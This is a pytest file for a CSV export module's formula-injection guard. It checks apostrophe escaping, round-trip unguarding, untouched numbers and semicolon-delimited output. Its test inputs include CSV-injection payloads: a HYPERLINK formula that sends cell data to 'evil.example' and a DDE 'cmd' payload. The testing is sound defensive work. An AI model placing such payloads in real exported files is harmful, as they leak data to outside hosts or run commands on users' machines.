"""The one export module: formula guard (OWASP) that the import takes off again, numbers untouched."""

from decimal import Decimal

import pytest

from segapp.exporting import CsvDialect, cell_text, csv_chunks, guard_formula, unguard_formula


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_text_starting_a_formula_is_guarded(text: str) -> None:
    assert guard_formula(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme", "", "'", "'a", "'=a", "''", "a=b", "=", "''=x", "Niccolò"])
def test_the_guard_comes_off_exactly(text: str) -> None:
    assert unguard_formula(guard_formula(text)) == text


def test_numbers_go_out_untouched() -> None:
    assert [cell_text(v) for v in (-5, 2.5, Decimal("-12.30"), True, False, None)] == [
        "-5",
        "2.5",
        "-12.30",
        "1",
        "0",
        "",
    ]


def test_csv_for_excel_in_italian_uses_semicolons_after_a_bom() -> None:
    text = "".join(csv_chunks(["Nome", "Città"], [["Rossi; Bianchi", "=1+1"]], CsvDialect(";", bom=True)))
    assert text == '\ufeffNome;Città\r\n"Rossi; Bianchi";\'=1+1\r\n'
